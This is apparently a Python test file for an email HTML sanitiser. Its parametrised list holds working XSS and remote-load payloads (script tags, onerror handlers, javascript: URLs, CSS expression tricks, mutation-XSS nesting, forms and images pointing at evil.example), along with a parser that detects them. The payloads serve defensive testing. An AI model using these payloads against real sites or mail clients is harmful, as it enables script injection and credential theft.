"""The HTML of a mail, made safe to look at."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orders import rendering
from tests import stopwatch

PNG = b"\x89PNG\r\n\x1a\n rest"

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<iframe src='https://evil.example/'></iframe>",
    "<form action='https://evil.example/'><input name=password><button formaction='https://evil.example/'>b</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<body background='https://evil.example/a.png' onload=alert(1)>",
    "<table background='https://evil.example/a.png'><tr><td>x</td></tr></table>",
    "<p style='background:url(https://evil.example/a.png)'>x</p>",
    "<p style='background-color:red;b\\61ckground:u\\72l(https://evil.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<img srcset='https://evil.example/a.png 2x'>",
    "<picture><source srcset='https://evil.example/a.png'><img alt=a></picture>",
    "<video poster='https://evil.example/a.png'><source src='https://evil.example/a.mp4'></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<!--[if gte mso 9]><img src='https://evil.example/'><![endif]-->",
]


class Finder(HTMLParser):
    """Collects what could run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {"srcset", "background", "action", "formaction", "poster"}:
                self.found.append(name)
            if name == "src" and not (value or "").startswith("data:image/"):
                self.found.append(f"{name}={value}")
            if name == "href" and not re.match(r"(https?|mailto|tel):", value or "", re.IGNORECASE):
                self.found.append(f"{name}={value}")
            if name == "style" and re.search(r"url|expression|\\", value or ""):
                self.found.append(f"{name}={value}")


def dangers(html: str) -> list[str]:
    finder = Finder()
    finder.feed(html)
    forbidden = {"script", "style", "iframe", "form", "input", "meta", "base", "link", "svg", "math", "object", "embed"}
    return [*finder.found, *sorted(finder.tags & forbidden)]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_runs_or_loads_survives(html):
    assert dangers(rendering.safe_html(f"<p>before</p>{html}<p>after</p>").html) == []


@given(st.lists(st.sampled_from(HOSTILE) | st.text(alphabet="<>\"'=/ !-abon\\&;:%svgtyle", max_size=40)).map("".join))
def test_no_mixture_of_tricks_survives(html):
    assert dangers(rendering.safe_html(html).html) == []


def test_formatting_survives():
    html = '<h1>Hi</h1><table><tbody><tr><td bgcolor="red"><b>x</b></td></tr></tbody></table>'
    assert rendering.safe_html(html).html == html


def test_links_open_elsewhere_and_tell_nothing():
    shown = rendering.safe_html('<a href="https://shop.example/?a=1" onclick="x()">t</a>')
    assert shown.html == '<a href="https://shop.example/?a=1" target="_blank" rel="noopener noreferrer">t</a>'


def test_remote_pictures_are_left_out_and_counted():
    shown = rendering.safe_html(
        '<img src="https://a.example/1.gif" alt="one"><img src="//a.example/2.gif"><img src="cid:x">'
    )
    assert shown.html == '<img alt="one"><img><img>'
    assert shown.blocked == 2


def test_the_mail_s_own_pictures_are_put_in():
    shown = rendering.safe_html('<img src="CID:Logo%40Acme">', {"logo@acme": PNG})
    assert shown.html == '<img src="data:image/png;base64,iVBORw0KGgogcmVzdA==">'
    assert shown.blocked == 0


def test_a_picture_that_only_claims_to_be_one_is_not_put_in():
    assert rendering.safe_html('<img src="cid:a">', {"a": b"<svg onload=alert(1)>"}).html == "<img>"


def test_pictures_over_the_limit_are_not_put_in(monkeypatch):
    monkeypatch.setattr(rendering, "MAX_PICTURES", len(PNG) + 1)
    shown = rendering.safe_html('<img src="cid:a"><img src="cid:b">', {"a": PNG, "b": PNG})
    assert shown.html.count("data:") == 1


def test_content_ids_are_found_once_each():
    assert rendering.content_ids("<img src=\"cid:A@b\"><img src='cid:a%40b'><img src=cid:c>") == ["a@b", "c"]


def test_over_long_html_is_cut_and_says_so(monkeypatch):
    monkeypatch.setattr(rendering, "MAX_HTML", 10)
    assert rendering.safe_html("<p>0123456789</p>").is_cut


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PNG, "image/png"),
        (b"\xff\xd8\xff\xe0", "image/jpeg"),
        (b"GIF89a", "image/gif"),
        (b"RIFF\0\0\0\0WEBPVP8 ", "image/webp"),
        (b"<svg/>", None),
        (b"", None),
    ],
)
def test_raster_pictures_are_told_by_content(content, kind):
    assert rendering.raster_type(content) == kind


def test_what_would_keep_the_page_waiting_is_shown_as_text() -> None:
    fonts = range(490)
    block = "<p>" + "".join(f'<font color="c{one}">' for one in fonts) + "a &lt;b" + "</font>" * len(fonts) + "</p>"
    shown = rendering.safe_html(block * 150)
    assert shown.html == f'<div style="white-space: pre-wrap">{"a &lt;b" * 150}</div>'
    assert stopwatch.least(lambda: rendering.safe_html(block * 150)) < 1
